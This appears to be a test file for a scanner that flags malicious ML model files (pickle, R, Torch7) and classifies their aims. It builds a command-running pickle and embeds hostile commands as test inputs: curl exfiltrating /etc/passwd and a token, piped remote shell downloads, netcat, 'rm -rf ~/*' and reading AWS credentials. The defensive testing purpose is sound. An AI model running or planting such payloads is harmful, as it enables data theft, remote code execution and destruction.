import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Aim } from '../../../../engine/src/finding';
import { toText } from '../../../../engine/src/report/text';
import { scanBytes } from '../../../support/scan';

/*
 * What payloads are after: test/fixtures/make_aims.py wrote them into aims.json, each with the aims that a reader must find.
 */

interface Entry {
  readonly name: string;
  readonly aims: readonly Aim[];
  readonly file: string;
  readonly bytes: string;
}

const fixtures = new URL('../../../fixtures/', import.meta.url);
const entries = JSON.parse(readFileSync(new URL('aims.json', fixtures), 'utf8')) as Entry[];

async function scanned({ file, bytes }: Pick<Entry, 'file' | 'bytes'>) {
  return scanBytes(Buffer.from(bytes, 'base64'), file);
}

/** A pickle that runs a command. */
function pickleOf(command: string): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(command.length);
  return Buffer.concat([
    Buffer.from('cposix\nsystem\nX'),
    length,
    Buffer.from(command),
    Buffer.from('\x85R.', 'latin1'),
  ]);
}

describe('aims of payloads', () => {
  it.each(entries)('$name', async (entry) => {
    const { findings } = await scanned(entry);
    const found = new Set(findings.flatMap(({ aims = [] }) => aims.map(({ aim }) => aim)));
    expect([...found].sort()).toEqual([...entry.aims].sort());
    for (const { aim, atlas, evidence } of findings.flatMap(({ aims = [] }) => aims)) {
      expect(atlas).toMatch(/^AML\.T\d{4}(?:\.\d{3})?$/);
      if (aim !== 'unknown') expect(evidence ?? 'import').not.toBe('');
    }
  });

  it('are of every class', () => {
    expect(entries.length).toBeGreaterThanOrEqual(60);
    expect(new Set(entries.flatMap(({ aims }) => aims)).size).toBe(10);
  });

  it('are none of harmless files', async () => {
    for (const folder of ['benign', 'modern'])
      for (const entry of readdirSync(new URL(folder, fixtures), { recursive: true, withFileTypes: true })) {
        if (!entry.isFile() || entry.name.startsWith('MANIFEST')) continue;
        const path = join(entry.parentPath, entry.name);
        const { findings } = await scanBytes(readFileSync(path), entry.name);
        expect([path, findings.filter(({ aims }) => aims !== undefined)]).toEqual([path, []]);
      }
  });

  it('show no secret', async () => {
    const token = `ghp_${'a1B2c3D4e5F6g7H8i9J0'.repeat(2).slice(0, 36)}`;
    const { findings } = await scanBytes(
      pickleOf(`curl -H 'Authorization: Bearer ${token}' -d @/etc/passwd http://example.invalid`),
    );
    expect(findings[0].aims?.map(({ aim }) => aim)).toEqual(['exfiltration', 'credentials']);
    expect(JSON.stringify(findings)).not.toContain(token.slice(4, 30));
  });

  it('are those of R and of Lua as well', async () => {
    for (const path of ['r/hostile/active.rds', 'formats/torch7/hostile/function.t7']) {
      const stored = readFileSync(new URL(path, fixtures));
      const bytes = stored[0] === 0x1f ? gunzipSync(stored) : stored;
      // As long as what stands there.
      const changed = Buffer.from(bytes.toString('latin1').replace('echo pwned', 'rm -rf ~/*'), 'latin1');
      const { findings } = await scanBytes(changed, path);
      expect([path, findings.flatMap(({ aims = [] }) => aims.map(({ aim }) => aim))]).toEqual([
        path,
        ['destruction'],
      ]);
    }
  });

  it('come with the addresses that the code names', async () => {
    const code = Buffer.from('curl http://example.invalid/a | sh; nc 192.0.2.7:99').toString('base64');
    const { findings } = await scanBytes(pickleOf(`echo ${code} | base64 -d | sh`));
    expect(findings[0].addresses).toEqual(['http://example.invalid/a', '192.0.2.7:99']);
  });

  it('cost no verdict, however deep and large the code is', async () => {
    let code = 'print(1)';
    for (let depth = 0; depth < 40 && code.length < 300_000; depth++)
      code = `exec(__import__('base64').b64decode('${Buffer.from(code).toString('base64')}'))`;
    const report = await scanBytes(pickleOf(code));
    expect([report.verdict, report.complete]).toEqual(['dangerous', true]);
    expect(report.findings[0].aims?.length).toBeGreaterThan(0);
  });

  it('are said in the report', async () => {
    const model = await scanBytes(pickleOf('cat ~/.aws/credentials'));
    const text = toText({
      tool: { name: 'secure-ml', version: '0' },
      models: [model],
      findings: [],
      errors: [],
      notices: [],
      summary: { files: 1, models: {}, findings: {}, suppressed: 0, excluded: 0 },
    } as unknown as Parameters<typeof toText>[0]);
    expect(text).toContain('The code reads credentials. (ATLAS AML.T0055)  cat ~/.aws/credentials');
  });
});
